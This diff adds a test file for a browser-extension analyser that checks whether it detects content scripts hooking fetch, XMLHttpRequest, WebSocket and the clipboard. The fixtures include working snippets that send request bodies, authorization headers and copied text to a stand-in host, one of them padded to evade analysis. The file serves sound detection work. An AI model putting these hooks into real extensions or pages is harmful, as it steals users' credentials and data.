@@ -1,0 +1,114 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { extensionOf } from '../../../../testing/build-extension.ts';
+import { analyse } from '../../analyse.ts';
+
+const host = 'https://in.a.dev/';
+
+/** Code that takes what a page hands to the browser's own functions, with the data that leaves. */
+const taken: readonly (readonly [string, string])[] = [
+  [
+    'request-body',
+    `const o = window.fetch; window.fetch = (u, i) => { o('${host}', { method: 'POST', body: i.body }); return o(u, i); };`,
+  ],
+  [
+    'request-body',
+    `const o = fetch; window.fetch = function (...all) { navigator.sendBeacon('${host}', JSON.stringify(all)); return o(...all); };`,
+  ],
+  [
+    'request-headers',
+    `const o = fetch; window.fetch = (u, { headers }) => { new Image().src = '${host}?' + headers.get('authorization'); return o(u); };`,
+  ],
+  [
+    'request-body',
+    `window.fetch = ((o) => (u, i) => { navigator.sendBeacon('${host}', i.body); return o(u, i); })(window.fetch);`,
+  ],
+  [
+    'request-body',
+    `function hook(u, i) { navigator.sendBeacon('${host}', i.body); } window.fetch = hook;`,
+  ],
+  [
+    'request-body',
+    `Object.defineProperty(window, 'fetch', { value: (u, i) => navigator.sendBeacon('${host}', i.body) });`,
+  ],
+  [
+    'request-body',
+    `window.fetch = new Proxy(fetch, { apply(t, self, all) { navigator.sendBeacon('${host}', all[1].body); return Reflect.apply(t, self, all); } });`,
+  ],
+  [
+    'request-body',
+    `const p = XMLHttpRequest.prototype, send = p.send; p.send = function (b) { navigator.sendBeacon('${host}', b); return send.call(this, b); };`,
+  ],
+  [
+    'request-headers',
+    `((p) => { const set = p.setRequestHeader; p.setRequestHeader = function (n, v) { navigator.sendBeacon('${host}', n + v); return set.apply(this, arguments); }; })(XMLHttpRequest.prototype);`,
+  ],
+  [
+    'request-body',
+    `const send = WebSocket.prototype.send; WebSocket.prototype.send = function (d) { fetch('${host}', { method: 'POST', body: d }); return send.call(this, d); };`,
+  ],
+  [
+    'request-body',
+    `const o = fetch; window.fetch = function () { const { body } = arguments[1]; arguments[0] = '${host}'; return o.apply(this, arguments); };`,
+  ],
+  [
+    'request-body',
+    `const o = fetch; window.fetch = (...all) => { all[0] = '${host}'; return o.apply(this, all); };`,
+  ],
+  [
+    'request-body',
+    `const o = fetch; window.fetch = (...all) => { all.splice(0, 1, '${host}'); return o(...all); };`,
+  ],
+  ['request-body', `const o = fetch; window.fetch = (u, i) => o(i.body ? '${host}' : u, i);`],
+  [
+    'clipboard',
+    `const write = navigator.clipboard.writeText; navigator.clipboard.writeText = (t) => { navigator.sendBeacon('${host}', t); return write(t); };`,
+  ],
+  [
+    'request-body',
+    `${'box.fetch = done; '.repeat(400)} const o = fetch; self.fetch = (u, i) => { o('${host}', { method: 'POST', body: i.body }); return o(u, i); };`,
+  ],
+  [
+    'request-body',
+    `Object.defineProperty(globalThis, 'fetch', { value: (u, i) => navigator.sendBeacon('${host}', i.body) });`,
+  ],
+];
+
+/** Code that hands on what it is handed, to where the page meant it. */
+const handedOn: readonly string[] = [
+  `const o = fetch; window.fetch = (input, init) => { if (input.url) input = input.url; return o(input, init); };`,
+  `const o = fetch; window.fetch = (u, i) => o.call(this, u, { ...i, headers: { ...i.headers, a: 'b' } });`,
+  `const o = fetch; window.fetch = (...all) => o(...all);`,
+  `const o = fetch; window.fetch = function () { return o.apply(this, arguments); };`,
+  `const o = fetch; window.fetch = async (input, init) => { const url = typeof input === 'string' ? input : input.url; return o(url, init); };`,
+  `const o = fetch; window.fetch = async (input, init) => o(new Request(input, init));`,
+  `const b = navigator.sendBeacon; navigator.sendBeacon = (u, d) => (/ads/.test(u) ? true : b.call(navigator, u, d));`,
+  `const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { console.log(b); return send.call(this, b); };`,
+  `let n = 0; const o = fetch; window.fetch = (u, i) => { n += 1; o('${host}', { method: 'POST', body: String(n) }); return o(u, i); };`,
+];
+
+const manifest = {
+  content_scripts: [{ matches: ['<all_urls>'], js: ['hook.js'], world: 'MAIN' }],
+};
+
+const sent = (source: string) =>
+  analyse(extensionOf(manifest, { 'hook.js': source })).flows.filter(
+    (flow) => flow.sink.kind === 'network' && flow.source.kind !== 'network-response',
+  );
+
+describe('what pages hand to functions that the extension puts in place of the browser’s', () => {
+  for (const [kind, source] of taken)
+    it(`is followed: ${source.slice(0, 90)}`, () => {
+      assert.ok(
+        sent(source).some((flow) => flow.source.kind === kind),
+        JSON.stringify(sent(source)),
+      );
+    });
+  for (const source of handedOn)
+    it(`is no theft on its way to where it was meant: ${source.slice(0, 90)}`, () => {
+      assert.deepEqual(
+        sent(source).filter(({ direction }) => direction === 'theft'),
+        [],
+      );
+    });
+});
